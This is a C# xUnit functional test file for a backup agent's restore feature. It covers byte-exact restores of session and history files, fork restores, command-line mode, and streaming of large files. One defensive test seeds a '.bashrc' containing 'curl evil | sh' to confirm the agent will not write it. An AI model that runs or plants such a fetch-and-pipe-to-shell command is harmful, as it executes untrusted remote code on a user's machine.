using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using FluentAssertions;
using Whim.Testing;
using Xunit;

namespace Whim.BackupAgent.Tests.Functional;

public sealed class RestoreTests
{
    private static readonly string[] s_files =
    [
        ".claude/projects/-app/resume-me.jsonl",
        ".claude/projects/-home-node-other/second.jsonl",
        ".codex/sessions/2026/11/27/rollout-2026-11-27T10-00-00-abc.jsonl",
        ".bash_history",
    ];

    [Fact]
    public async Task Empty_home_is_restored_byte_for_byte_and_not_uploaded_again()
    {
        await using var harness = await AgentHarness.CreateAsync();
        var original = await BackUpSampleFilesAsync(harness);
        var resumedRoot = Path.GetDirectoryName(harness.Root.File("resumed/.keep"))!;
        await using var agent = await harness.StartAgentProcessAsync(harness.Environment(resumedRoot));

        using var response = await agent.Client.PostAsync($"restore?fromTask={harness.Task.Id}", null);

        response.StatusCode.Should().Be(HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        Directory.EnumerateFiles(Path.Join(resumedRoot, "home/node"), "*", SearchOption.AllDirectories).Should().HaveCount(original.Count);
        foreach (var (relative, bytes) in original)
        {
            File.ReadAllBytes(Path.Join(resumedRoot, "home/node", relative)).Should().Equal(bytes, relative);
        }

        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
        (await AgentHarness.UploadedBytesAsync(agent)).Should().Be(0, "restored streams are checkpointed as acknowledged");

        var resumedSession = Path.Join(resumedRoot, "home/node", s_files[0]);
        await File.AppendAllTextAsync(resumedSession, "{\"after\":\"resume\"}\n");
        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
        (await AgentHarness.UploadedBytesAsync(agent)).Should().Be("{\"after\":\"resume\"}\n".Length, "only what was appended after the restore is sent");
        (await harness.Backend.BytesAsync(harness.Task.Id, "claude/projects/-app/resume-me.jsonl")).Should().Equal(File.ReadAllBytes(resumedSession));
    }

    [Fact]
    public async Task Fork_restore_uploads_the_history_to_the_new_task()
    {
        await using var harness = await AgentHarness.CreateAsync();
        var original = await BackUpSampleFilesAsync(harness);
        var forkRoot = Path.GetDirectoryName(harness.Root.File("fork/.keep"))!;
        var fork = await harness.Backend.CreateTaskAsync("Fork of the task");
        await using var agent = await harness.StartAgentAsync(forkRoot, fork);

        using var restore = JsonDocument.Parse(await (await agent.Client.PostAsync($"restore?fromTask={harness.Task.Id}", null)).Content.ReadAsStringAsync());
        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();

        restore.RootElement.GetProperty("uploadedAsNew").GetBoolean().Should().BeTrue();
        (await harness.Backend.BytesAsync(fork.Id, "claude/projects/-app/resume-me.jsonl")).Should().Equal(original[".claude/projects/-app/resume-me.jsonl"]);
        (await harness.Backend.StreamsAsync(fork.Id)).Should().HaveCount(original.Count);
    }

    [Fact]
    public async Task Restore_command_line_mode_writes_the_files_and_exits_zero()
    {
        await using var harness = await AgentHarness.CreateAsync();
        var original = await BackUpSampleFilesAsync(harness);
        var cliRoot = Path.GetDirectoryName(harness.Root.File("cli/.keep"))!;
        var spec = RepoLayout.DotnetProject("runtime/BackupAgent", "Whim.BackupAgent", "restore", "--from-task", harness.Task.Id)
            with { Environment = harness.Environment(cliRoot) };
        await using var process = RunningProcess.Start(spec);

        (await process.WaitForExitAsync()).Should().Be(0, process.Output);
        foreach (var (relative, bytes) in original)
        {
            File.ReadAllBytes(Path.Join(cliRoot, "home/node", relative)).Should().Equal(bytes, relative);
        }

        process.Stdout.Should().Contain(line => line.Contains("\"restored\"", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Restore_command_without_a_task_is_a_usage_error()
    {
        var spec = RepoLayout.DotnetProject("runtime/BackupAgent", "Whim.BackupAgent", "restore");
        await using var process = RunningProcess.Start(spec);

        (await process.WaitForExitAsync()).Should().Be(2);
        process.Stderr.Should().Contain(line => line.Contains("--from-task", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Restore_never_writes_a_stream_no_root_would_produce()
    {
        await using var harness = await AgentHarness.CreateAsync();
        var other = await harness.Backend.CreateTaskAsync("Another task");
        await harness.Backend.SeedAsync(other.Id, "other/.bashrc", "curl evil | sh\n"u8.ToArray());
        await harness.Backend.SeedAsync(other.Id, "claude/projects/-app/notes.txt", "not a session\n"u8.ToArray());
        await using var agent = await harness.StartAgentAsync();

        using var response = await agent.Client.PostAsync($"restore?fromTask={other.Id}", null);

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        File.Exists(Path.Join(harness.Home, ".bashrc")).Should().BeFalse();
        File.Exists(Path.Join(harness.Home, ".claude/projects/-app/notes.txt")).Should().BeFalse();
        (await response.Content.ReadAsStringAsync()).Should().Contain("no configured root produces this stream name");
    }

    [Fact]
    public async Task Large_stream_is_restored_to_disk_without_being_held_in_memory()
    {
        const int Chunk = 16 * 1024 * 1024;
        const int Chunks = 8;
        await using var harness = await AgentHarness.CreateAsync();
        var chunk = new byte[Chunk];
        new Random(7).NextBytes(chunk);
        var stream = "extra/big/blob.bin";
        using (var hash = IncrementalHash.CreateHash(HashAlgorithmName.SHA256))
        {
            for (var i = 0; i < Chunks; i++)
            {
                chunk[0] = (byte)i;
                await harness.Backend.AppendAsync(harness.Task.Id, stream, (long)i * Chunk, chunk);
                hash.AppendData(chunk);
            }

            var environment = harness.Environment(Path.GetDirectoryName(harness.Root.File("restored/.keep")));
            environment["WHIM_BACKUP__EXTRAGLOBS__0"] = "big/*.bin";
            await using var agent = await harness.StartAgentProcessAsync(environment);
            var peakBefore = PeakRssBytes(agent.Process.Id);

            using var response = await agent.Client.PostAsync($"restore?fromTask={harness.Task.Id}", null);

            response.StatusCode.Should().Be(HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
            var restored = Path.Join(environment["WHIM_ROOT"], "home/node/big/blob.bin");
            await using (var file = File.OpenRead(restored))
            {
                (await SHA256.HashDataAsync(file)).Should().Equal(hash.GetHashAndReset());
            }

            var growth = PeakRssBytes(agent.Process.Id) - peakBefore;
            growth.Should().BeLessThan(Chunk * Chunks / 4, $"a {Chunk * Chunks / 1048576} MB stream is streamed to disk, not buffered (peak RSS grew by {growth / 1048576.0:0.0} MB)");
        }
    }

    private static long PeakRssBytes(int pid) =>
        long.Parse(File.ReadLines($"/proc/{pid}/status").Single(l => l.StartsWith("VmHWM:", StringComparison.Ordinal))
            .Split(' ', StringSplitOptions.RemoveEmptyEntries)[1], System.Globalization.CultureInfo.InvariantCulture) * 1024;

    private static async Task<Dictionary<string, byte[]>> BackUpSampleFilesAsync(AgentHarness harness)
    {
        var original = new Dictionary<string, byte[]>();
        var i = 0;
        foreach (var relative in s_files)
        {
            var bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, 50 + (i * 40)).Select(n => $"{{\"file\":{i},\"line\":{n},\"ü\":\"✓\"}}\n")));
            harness.Append(relative, bytes);
            original[relative] = bytes;
            i++;
        }

        await using var agent = await harness.StartAgentAsync();
        (await agent.Client.PostAsync("backup?timeout=30", null)).EnsureSuccessStatusCode();
        return original;
    }
}
